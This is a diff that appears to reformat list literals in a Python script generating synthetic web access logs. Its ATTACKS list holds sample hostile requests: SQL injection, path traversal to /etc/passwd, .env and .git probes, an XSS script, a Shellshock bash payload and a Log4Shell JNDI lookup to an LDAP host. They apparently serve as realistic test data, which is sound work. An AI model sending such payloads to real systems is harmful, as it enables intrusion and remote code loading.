@@ -31,23 +31,48 @@ BOTS = [
     "python-requests/2.32.3",
 ]
 PAGES = [
-    "/", "/index.html", "/about", "/contact", "/pricing", "/blog/", "/blog/privacy-by-design",
-    "/blog/nightly-jobs", "/docs/getting-started", "/docs/api", "/chatbot", "/callbot",
-    "/search?q=opening+hours", "/products/widget?id=42&utm_source=newsletter&utm_medium=email",
-    "/login", "/account/settings", "/newsletter/confirm?email=jane.doe%40example.org&token=8f14e45fceea167a5a36dedd4bea2543",
+    "/",
+    "/index.html",
+    "/about",
+    "/contact",
+    "/pricing",
+    "/blog/",
+    "/blog/privacy-by-design",
+    "/blog/nightly-jobs",
+    "/docs/getting-started",
+    "/docs/api",
+    "/chatbot",
+    "/callbot",
+    "/search?q=opening+hours",
+    "/products/widget?id=42&utm_source=newsletter&utm_medium=email",
+    "/login",
+    "/account/settings",
+    "/newsletter/confirm?email=jane.doe%40example.org&token=8f14e45fceea167a5a36dedd4bea2543",
 ]
 STATIC = ["/static/app.js", "/static/app.css", "/static/logo.svg", "/favicon.ico", "/robots.txt"]
 REFERRERS = [
-    "-", "-", "-", "https://www.google.com/", "https://duckduckgo.com/", "https://www.bing.com/search?q=logtool",
-    "https://news.ycombinator.com/item?id=1", "https://example.com/blog/", "android-app://com.slack",
+    "-",
+    "-",
+    "-",
+    "https://www.google.com/",
+    "https://duckduckgo.com/",
+    "https://www.bing.com/search?q=logtool",
+    "https://news.ycombinator.com/item?id=1",
+    "https://example.com/blog/",
+    "android-app://com.slack",
 ]
 ATTACKS = [
     ("GET", "/products/widget?id=42%27%20OR%201=1--", "sqlmap/1.8.3#stable (https://sqlmap.org)", 500),
     ("GET", "/../../../../etc/passwd", "Mozilla/5.0 zgrab/0.x", 400),
-    ("GET", "/.env", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", 404),
+    (
+        "GET",
+        "/.env",
+        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+        404,
+    ),
     ("GET", "/.git/config", "Mozilla/5.0 (l9explore/1.2.2)", 404),
     ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Mozilla/5.0 Nikto/2.5.0", 200),
-    ("GET", "/cgi-bin/status", "() { :; }; /bin/bash -c \\\"id\\\"", 404),
+    ("GET", "/cgi-bin/status", '() { :; }; /bin/bash -c \\"id\\"', 404),
     ("GET", "/?x=${jndi:ldap://198.51.100.9/a}", "${jndi:ldap://198.51.100.9/a}", 400),
 ]
 MALFORMED = [
